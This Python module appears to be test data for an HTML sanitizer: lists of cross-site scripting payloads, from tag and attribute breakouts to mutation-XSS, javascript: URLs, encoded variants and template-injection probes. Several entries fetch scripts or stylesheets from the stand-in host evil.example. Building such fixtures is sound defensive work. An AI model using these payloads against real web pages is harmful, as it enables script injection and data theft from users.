"""What somebody might type so that it runs on a reader's page; each one that ran would call `alert`."""

from __future__ import annotations

# What is left of a template's syntax where it was understood: no payload has the word in one piece.
TEMPLATED = "zebracrossing"
# Where a payload would have the page ask for something.
ELSEWHERE = "evil.example"

TAGS = [
    "<script>alert(1)</script>",
    "<ScRiPt x>alert(1)</sCrIpT >",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror=alert(1)//",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;">',
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'>",
    f"<embed src=//{ELSEWHERE}/x.swf>",
    f"<style>*{{background:url(//{ELSEWHERE}/c)}}</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/c.css>",
    f"<base href=//{ELSEWHERE}/>",
    f"<meta http-equiv=refresh content='0;url=//{ELSEWHERE}/'>",
    "<a href=javascript:alert(1)>x</a>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    f"<form action=//{ELSEWHERE}/><input name=q>",
]
OUT_OF_AN_ATTRIBUTE = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" onfocus=alert(1) autofocus x="',
    "' onfocus=alert(1) autofocus x='",
    "x onfocus=alert(1) autofocus tabindex=1 x=",
    "` onerror=alert(1) x=`",
    f'" style="background:url(//{ELSEWHERE}/s)" x="',
]
OUT_OF_A_TAG = [
    "</textarea><script>alert(1)</script>",
    "</title><svg onload=alert(1)>",
    "</style><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<![CDATA[><script>alert(1)</script>]]>",
]
OUT_OF_A_SCRIPT = ['"};alert(1);//', "';alert(1);//", r"\u003cscript\u003ealert(1)\u003c/script\u003e"]
# Harmless as they are read first, and not once they were written out and read again.
READ_TWICE = [
    "<math><mtext><script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]
ADDRESSES = [
    "javascript:alert(1)//",
    "JaVa\tScRiPt:alert(1)//",
    "&#106;avascript&colon;alert(1)//",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)//",
]
TEMPLATES = [
    '{{ "zebra"|add:"crossing" }}',
    '{% firstof "zebra" %}crossing',
    '${"zebra"+"crossing"} #{"zebra"+"crossing"} <%="zebra"+"crossing"%>',
    "{{constructor.constructor('alert(1)')()}}",
]
WRITTEN_OTHERWISE = [
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#0;<svg onload=alert(1)>",
    "\u2028<script>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
]
# For feeds and calendars.
OUT_OF_A_FILE = [
    "</title></entry><entry><title>injected</title></entry>",
    "x\r\nATTACH:javascript:alert(1)\r\nX-INJECTED:y",
]

PAYLOADS = [
    *TAGS, *OUT_OF_AN_ATTRIBUTE, *OUT_OF_A_TAG, *OUT_OF_A_SCRIPT, *READ_TWICE, *ADDRESSES, *TEMPLATES,
    *WRITTEN_OTHERWISE, *OUT_OF_A_FILE,
]  # fmt: skip
